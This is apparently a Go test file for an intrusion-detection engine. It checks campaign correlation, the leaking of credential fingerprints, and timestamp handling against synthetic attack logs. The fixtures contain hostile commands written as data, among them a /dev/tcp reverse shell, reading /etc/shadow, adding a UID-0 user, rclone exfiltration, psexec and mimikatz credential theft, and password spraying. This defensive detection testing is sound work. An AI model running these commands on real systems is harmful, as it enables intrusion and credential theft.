package engine

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/tocsin-ids/tocsin"
	"github.com/tocsin-ids/tocsin/actor"
)

// TestNoFingerprint holds that no fingerprint of a secret, and no part of one, leaves in any member of a campaign: not in the
// sentence about who went on after a block, nor in a link, mark, text or lead.
func TestNoFingerprint(t *testing.T) {
	set := ownRules(t)
	s := NewState(StateOptions{Key: actor.Key{7}})
	seq := uint64(0)
	prints := map[string]bool{}
	w := newWitness(set, nil, actor.Key{7}, nil, func(a *tocsin.Action) {
		seq++
		for _, m := range append([]string{a.Credential}, a.Marks...) {
			if strings.HasPrefix(m, "key:") {
				prints[strings.TrimPrefix(m, "key:")] = true
			}
		}
		s.Note("a", seq, a)
	})
	n := uint64(0)
	line := func(at time.Duration, host, src, outcome, command string) {
		n++
		w.see(&tocsin.Event{Time: month.Add(at), Host: host, Source: "l", Record: n, Sources: []tocsin.LogSource{{Product: "linux", Category: "process_creation"}},
			Fields: []tocsin.Field{{Name: "command", Value: command}, {Name: "src_ip", Value: src}, {Name: "outcome", Value: outcome}}}, nil)
	}
	guess := "nxc smb 10.0.0.%d -u alice -p Winter2026x --hash 0123456789abcdef0123456789abcdef"
	for i := range 12 {
		line(time.Duration(i)*time.Second, "h.corp.example", "198.51.100.1", "denied", fmt.Sprintf(guess, i))
	}
	for i := range 12 {
		line(time.Minute+time.Duration(i)*time.Second, "h.corp.example", "198.51.100.2", "success", fmt.Sprintf(guess, i))
	}
	for i, c := range []string{"cat /etc/shadow", "useradd -o -u 0 eve", "bash -i >& /dev/tcp/203.0.113.77/443 0>&1", "rclone copy /srv/data remote:x", "psexec.py corp/admin:Winter2026x@10.0.0.9 whoami"} {
		line(time.Duration(3+i)*time.Minute, "h.corp.example", "198.51.100.2", "success", c)
		line(time.Duration(4+i)*time.Minute, "g.corp.example", "198.51.100.3", "success", c)
	}
	s.Turn(time.Time{})
	campaigns := s.Result().Campaigns
	if len(campaigns) == 0 || len(prints) == 0 {
		t.Fatalf("%d campaigns, %d fingerprints: nothing to look for", len(campaigns), len(prints))
	}
	links := 0
	for _, c := range campaigns {
		for _, a := range c.Actors {
			links += len(a.Links) + len(a.Adaptations)
		}
	}
	if links == 0 {
		t.Error("no names are joined, so that no sentence is told")
	}
	b, err := json.Marshal(s.Result())
	if err != nil {
		t.Fatal(err)
	}
	for p := range prints {
		for _, part := range []string{p, p[:12], p[4:]} {
			if i := bytes.Index(b, []byte(part)); i >= 0 {
				t.Errorf("%q of a fingerprint leaves: …%.120s…", part, b[max(0, i-60):])
			}
		}
	}
	for _, m := range regexp.MustCompile(`.{0,60}key:[0-9a-f]{16}.{0,20}`).FindAllString(string(b), 4) {
		t.Errorf("leaves: …%s…", m)
	}
	for _, secret := range []string{"Winter2026x", "0123456789abcdef0123456789abcdef"} {
		if bytes.Contains(b, []byte(secret)) {
			t.Errorf("%s leaves", secret)
		}
	}
}

// TestCountedOnce holds that an event that completes a correlation is one action.
func TestCountedOnce(t *testing.T) {
	dir := t.TempDir()
	var b strings.Builder
	n := 0
	put := func(program, format string, a ...any) {
		n++
		fmt.Fprintf(&b, "%s web1 %s: %s\n", month.Add(time.Duration(n)*time.Second).Format(time.RFC3339), program, fmt.Sprintf(format, a...))
	}
	for i := range 30 {
		put(fmt.Sprintf("sshd[%d]", 100+i), "Failed password for root from 203.0.113.9 port %d ssh2", 4000+i)
	}
	put("sshd[400]", "Accepted password for root from 203.0.113.9 port 5000 ssh2")
	for _, command := range []string{"/usr/bin/cat /etc/shadow", "/usr/sbin/useradd -o -u 0 eve"} {
		put("sudo", "root : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=%s", command)
	}
	write(t, dir, "auth.log", b.String())
	for _, workers := range []int{1, 3} {
		found, coverage, err := Hunt(context.Background(), Input{Paths: []string{dir}, Workers: workers, Key: []byte("a")}, ownRules(t), nil)
		if err != nil {
			t.Fatal(err)
		}
		correlated := len(found.joint)
		if correlated == 0 || len(found.Campaigns) != 1 {
			t.Fatalf("%d correlations hold, %d campaigns", correlated, len(found.Campaigns))
		}
		if c := found.Campaigns[0]; int64(c.Actions) != coverage.Events || c.Alerts > c.Actions {
			t.Errorf("%d actions, %d alerts of %d events", c.Actions, c.Alerts, coverage.Events)
		}
	}
}

// TestFarEvents holds that events of a year that tells no time make no campaign of another century.
func TestFarEvents(t *testing.T) {
	for _, year := range []string{"9999", "2261", "1601", "1970"} {
		dir := t.TempDir()
		var b strings.Builder
		for i := range 40 {
			fmt.Fprintf(&b, `{"EventID":1,"Provider_Name":"Microsoft-Windows-Sysmon","Channel":"Microsoft-Windows-Sysmon/Operational","TimeCreated":"%s-12-31T10:00:%02dZ","Computer":"pc.corp.example","Image":"C:\\x\\mimikatz.exe","CommandLine":"mimikatz.exe sekurlsa::logonpasswords %d","User":"CORP\\eve"}`+"\n", year, i, i)
			fmt.Fprintf(&b, `{"EventID":1,"Provider_Name":"Microsoft-Windows-Sysmon","Channel":"Microsoft-Windows-Sysmon/Operational","TimeCreated":"%s-12-31T10:01:%02dZ","Computer":"pc.corp.example","Image":"C:\\x\\psexec.exe","CommandLine":"psexec.py corp/admin:Secret123@10.0.0.9 whoami","User":"CORP\\eve"}`+"\n", year, i)
		}
		write(t, dir, "x.jsonl", b.String())
		found, coverage, err := Hunt(context.Background(), Input{Paths: []string{dir}, Key: []byte("a")}, ownRules(t), nil)
		if err != nil {
			t.Fatal(err)
		}
		if len(found.Campaigns) == 0 {
			t.Errorf("%s: no campaign of %d events", year, coverage.Events)
		}
		for _, c := range found.Campaigns {
			for _, at := range []time.Time{c.First, c.Last} {
				if !at.IsZero() && fmt.Sprint(at.Year()) != year {
					t.Errorf("a campaign of %s is told as of %s to %s", year, c.First, c.Last)
				}
			}
		}
	}
}
